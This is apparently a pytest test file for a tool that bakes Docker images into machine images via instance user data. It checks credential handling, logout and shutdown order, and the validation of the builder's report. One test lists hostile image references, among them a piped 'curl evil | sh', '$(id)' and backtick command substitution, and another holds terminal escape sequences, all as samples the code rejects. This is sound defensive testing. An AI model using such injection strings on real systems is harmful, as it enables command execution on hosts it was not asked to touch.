"""The program a `gpujobs bake` builder runs from its user data: every image pulled, no shell, no token left.

The builder's user data is fixed shell lines, `gpujobs_cli/bake_builder.py` as it is, and one call
of its `main` with the bake's data as base64 JSON. These stories run that very program (cut out of
the rendered user data) under this Python and the AMIs' 3.9 and 3.10, with fake `docker`, `aws`,
`shutdown` and `systemctl` on PATH, and read its report as the CLI reads the console.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gpujobs.instance import runtimes
from gpujobs_cli import bake_builder
from gpujobs_cli.bake import checked_references
from gpujobs_cli.baker import HEREDOC, BakeFailedError, builder_user_data, read_report, what_was_pulled
from gpujobs_cli.commands import CommandError
from tests.conftest import BootstrapPython

ECR_IMAGE = "123456789012.dkr.ecr.us-west-2.amazonaws.com/train:1"
REGISTRY = "123456789012.dkr.ecr.us-west-2.amazonaws.com"
HUB_IMAGE = "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime"
DIGEST = "sha256:" + "d" * 64
NONCE = "0123456789abcdef0123456789abcdef"

FAKE_TOOL = """import json, os, sys
argv = [os.path.basename(sys.argv[0])] + sys.argv[1:]
stdin = sys.stdin.read() if "--password-stdin" in argv else ""
with open(os.environ["FAKE_LOG"], "a") as log:
    log.write(json.dumps({"argv": argv, "stdin": stdin, "home": os.environ.get("HOME")}) + "\\n")
if argv[:2] == ["docker", "pull"] and argv[2] in json.loads(os.environ.get("FAKE_REFUSED", "[]")):
    sys.exit("Error response from daemon: pull access denied")
if argv[:3] == ["docker", "image", "inspect"]:
    name = argv[-1].split("@")[0].rsplit(":", 1)[0] if ":" in argv[-1].rsplit("/", 1)[-1] else argv[-1]
    print(json.dumps([name + "@" + os.environ["FAKE_DIGEST"]]))
if argv[:3] == ["aws", "ecr", "get-login-password"]:
    print("password-for-" + argv[-1])
"""
"""docker, aws, shutdown and systemctl in one: each call logged; a pull of FAKE_REFUSED refused."""


def the_program(references: list[str], console: Path) -> str:
    """The Python program of the builder's user data, its console pointed at a file (root could write /dev/console)."""
    user_data = builder_user_data(references, nonce=NONCE, deadline_minutes=70)
    program = user_data.split(f"<<'{HEREDOC}'\n", 1)[1].rsplit(f"{HEREDOC}\n", 1)[0]
    call = program.rstrip().splitlines()[-1]
    assert call.startswith('sys.exit(main("')
    assert call.endswith('"))')
    return program.replace(call, call[: -len("))")] + f", console={str(console)!r}))")


def run_builder(
    tmp_path: Path, python: str, references: list[str], *, refused: tuple[str, ...] = ()
) -> tuple[int, list[dict[str, Any]], str]:
    """The builder's program as the user data runs it (python3 reading it on stdin): its exit code,
    the tools' calls and its console."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    for tool in ("docker", "aws", "shutdown", "systemctl"):
        (bin_dir / tool).write_text(f"#!{sys.executable}\n{FAKE_TOOL}")
        (bin_dir / tool).chmod(0o755)
    console, log = tmp_path / "console", tmp_path / "calls.jsonl"
    done = subprocess.run(
        [python, "-"],
        input=the_program(references, console),
        env={
            "PATH": f"{bin_dir}:/usr/bin:/bin",
            "FAKE_LOG": str(log),
            "FAKE_DIGEST": DIGEST,
            "FAKE_REFUSED": json.dumps(list(refused)),
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    return done.returncode, calls, console.read_text() if console.exists() else done.stdout


def test_the_builder_logs_in_pulls_each_image_logs_out_and_reports_what_docker_recorded(
    tmp_path: Path, bootstrap_python: BootstrapPython
) -> None:
    # when the builder runs with an ECR image of another region and a Docker Hub image
    code, calls, console = run_builder(tmp_path, bootstrap_python.path, [ECR_IMAGE, HUB_IMAGE])

    # then it armed its dead man's switch first, pulled both, logged out, and powered off last
    argv = [c["argv"] for c in calls]
    assert code == 0
    assert argv[0] == ["shutdown", "-h", "+70"]
    assert argv[-1] == ["shutdown", "-h", "now"]
    assert ["aws", "ecr", "get-login-password", "--region", "us-west-2"] in argv
    login = next(c for c in calls if c["argv"][:2] == ["docker", "login"])
    assert login["argv"] == ["docker", "login", "--username", "AWS", "--password-stdin", REGISTRY]
    assert login["stdin"] == "password-for-us-west-2"  # on stdin, never argv
    assert login["home"] == "/root"  # where docker keeps the login cloud-init may not say
    assert [a for a in argv if a[:2] == ["docker", "pull"]] == [
        ["docker", "pull", ECR_IMAGE],
        ["docker", "pull", HUB_IMAGE],
    ]
    assert argv.index(["docker", "logout", REGISTRY]) > argv.index(["docker", "pull", HUB_IMAGE])
    # and its report, read as the CLI reads the console, names what docker recorded
    status, payload = read_report(console, NONCE) or ("", "")
    pulled = json.loads(payload)
    assert status == "ok"
    assert [(p["image"], p["digests"]) for p in pulled] == [
        (ECR_IMAGE, [f"{ECR_IMAGE.rsplit(':', 1)[0]}@{DIGEST}"]),
        (HUB_IMAGE, [f"{HUB_IMAGE.rsplit(':', 1)[0]}@{DIGEST}"]),
    ]
    assert all(isinstance(p["seconds"], float) for p in pulled)


def test_a_refused_pull_is_reported_as_a_failure_and_still_logs_out_and_powers_off(
    tmp_path: Path, bootstrap_python: BootstrapPython
) -> None:
    code, calls, console = run_builder(tmp_path, bootstrap_python.path, [ECR_IMAGE], refused=(ECR_IMAGE,))

    argv = [c["argv"] for c in calls]
    assert code == 1
    assert ["docker", "logout", REGISTRY] in argv
    assert argv[-1] == ["shutdown", "-h", "now"]
    status, why = read_report(console, NONCE) or ("", "")
    assert status == "failed"
    assert "docker pull" in why
    assert "pull access denied" in why


def test_the_user_data_is_a_fixed_shell_whose_only_variable_part_is_base64_data(tmp_path: Path) -> None:
    references = [ECR_IMAGE, f"{HUB_IMAGE.partition(':')[0]}@{DIGEST}"]

    user_data = builder_user_data(references, nonce=NONCE, deadline_minutes=70)

    # no reference appears as text a shell or Python would read: only inside the base64 argument
    data_line = user_data.rstrip().splitlines()[-2]
    encoded = data_line.removeprefix('sys.exit(main("').removesuffix('"))')
    assert not any(reference in user_data for reference in references)
    assert json.loads(base64.b64decode(encoded)) == {"nonce": NONCE, "images": references, "deadline_minutes": 70}
    # and everything else is the same bytes for every bake
    other = builder_user_data(["x:1"], nonce="0", deadline_minutes=1)
    assert user_data.replace(data_line, "DATA") == other.replace(other.rstrip().splitlines()[-2], "DATA")
    script = tmp_path / "user-data.sh"
    script.write_text(user_data)
    assert subprocess.run(["bash", "-n", str(script)], check=False).returncode == 0
    assert len(user_data.encode()) <= 16384


@pytest.mark.parametrize(
    "hostile",
    ["img:1; curl evil | sh", "$(id)", "img:1\nimg:2", "`id`", "img:1 --privileged", "'quoted'", "img:" + "x" * 200],
)
def test_a_reference_that_is_not_a_plain_image_name_is_refused_before_anything_is_launched(hostile: str) -> None:
    with pytest.raises(CommandError, match="not a plain image reference"):
        checked_references([ECR_IMAGE, hostile])


def test_the_builder_knows_an_ecr_registry_as_the_bootstrap_does() -> None:
    assert bake_builder.ECR_REGISTRY.pattern == runtimes._ECR_IMAGE.pattern


def test_the_builders_report_is_believed_only_as_far_as_it_matches_what_it_was_asked() -> None:
    """It comes from an instance and reaches a terminal and the AMI's tags: nothing else gets through."""
    name = ECR_IMAGE.rsplit(":", 1)[0]
    report = json.dumps(
        [
            {
                "image": ECR_IMAGE,
                "digests": [f"{name}@{DIGEST}", "x\x1b[2J@sha256:zz", f"other@{DIGEST}"],
                "seconds": 12.34,
            },
            {"image": "\x1b]0;pwned\x07", "digests": [], "seconds": 1},
        ]
    )

    assert what_was_pulled(report, [ECR_IMAGE]) == [
        {"image": ECR_IMAGE, "digests": [f"{name}@{DIGEST}"], "seconds": 12.3}
    ]
    with pytest.raises(BakeFailedError, match="does not name"):
        what_was_pulled(report, [ECR_IMAGE, HUB_IMAGE])
    with pytest.raises(BakeFailedError, match="not JSON"):
        what_was_pulled("\x1b[2J", [ECR_IMAGE])
